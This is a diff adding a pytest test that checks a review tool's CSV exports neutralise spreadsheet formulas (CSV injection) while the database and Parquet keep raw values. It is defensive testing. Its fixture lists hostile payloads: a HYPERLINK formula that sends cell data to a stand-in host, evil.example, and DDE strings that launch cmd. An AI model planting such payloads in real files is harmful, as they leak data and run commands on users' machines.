@@ -426,3 +426,59 @@ def test_a_reviewer_or_run_name_too_long_for_the_database_is_a_one_line_error(
     assert result.stderr == "Error: --run-name is 300 characters long; at most 200 fit\n"
     listed = CliRunner().invoke(cli, ["runs", "--db", db])
     assert listed.exit_code == 0 and "nnnn" not in listed.output
+
+
+# ------------------------------------------------------------------------------------------------------------------
+# Issue 15.5: no CSV we write runs as a formula
+# ------------------------------------------------------------------------------------------------------------------
+
+#: Corrected values a spreadsheet would run, as the hostile sweep typed them into the report.
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0")
+
+
+def test_exported_csvs_neutralise_formulas_and_keep_values_intact_elsewhere(confident_scan, tmp_path):
+    """OWASP's CSV-injection advice: a quote in front of a cell starting with = + - @ tab or CR. The database
+    and Parquet keep the values as they are; a decisions file the report wrote (guarded the same way) imports
+    the values as they were typed."""
+    import sqlite3
+
+    shas = [sha(source) for source in confident_scan["sources"]]
+    db = str(confident_scan["db"])
+    written = ["'" + value for value in FORMULAS]  # as the report's download writes them
+    decisions = write_decisions(
+        tmp_path / "decisions.csv",
+        [
+            {"run_id": 1, "sha256": s, "field": "category", "decision": "catalogue_wrong", "corrected_value": v}
+            for s, v in zip(shas[1:], written, strict=True)
+        ]
+        + [{"run_id": 1, "sha256": shas[0], "field": "price", "decision": "catalogue_wrong", "corrected_value": "-3"}],
+    )
+    result = CliRunner().invoke(cli, ["review", "import", str(decisions), "--db", db, "--reviewer", "-x"])
+    assert result.exit_code == 0, result.output
+    with sqlite3.connect(db) as connection:
+        stored = connection.execute("select corrected_value from reviews order by id").fetchall()
+    assert [value for (value,) in stored] == [*FORMULAS, "-3"]
+
+    out = tmp_path / "corrections.csv"
+    result = CliRunner().invoke(cli, ["export", "1", "--db", db, "--what", "corrections", "--out", str(out)])
+    assert result.exit_code == 0, result.output
+    rows = read_csv(out)
+    assert sorted(row["corrected_value"] for row in rows) == sorted([*written, "-3"])  # a plain number stays
+    assert {row["reviewer"] for row in rows} == {"'-x"}
+    results = tmp_path / "results.csv"
+    CliRunner().invoke(cli, ["export", "1", "--db", db, "--out", str(results), "--field", "category"])
+    assert sorted(row["corrected_value"] for row in read_csv(results) if row["corrected_value"]) == sorted(written)
+
+    # Importing our own export gives back the values, not the guarded cells.
+    back = tmp_path / "back.csv"
+    rewritten = [{**row, "decision": "catalogue_wrong"} for row in read_csv(out)]
+    write_decisions(back, rewritten)
+    again = CliRunner().invoke(cli, ["review", "import", str(back), "--db", db])
+    assert again.stdout.startswith("Decisions: 4 rows read: 0 added, 0 updated, 4 unchanged"), again.output
+
+    pytest.importorskip("pyarrow")
+    import pandas as pd
+
+    parquet = tmp_path / "corrections.parquet"
+    CliRunner().invoke(cli, ["export", "1", "--db", db, "--what", "corrections", "--out", str(parquet)])
+    assert sorted(pd.read_parquet(parquet)["corrected_value"]) == sorted([*FORMULAS, "-3"])
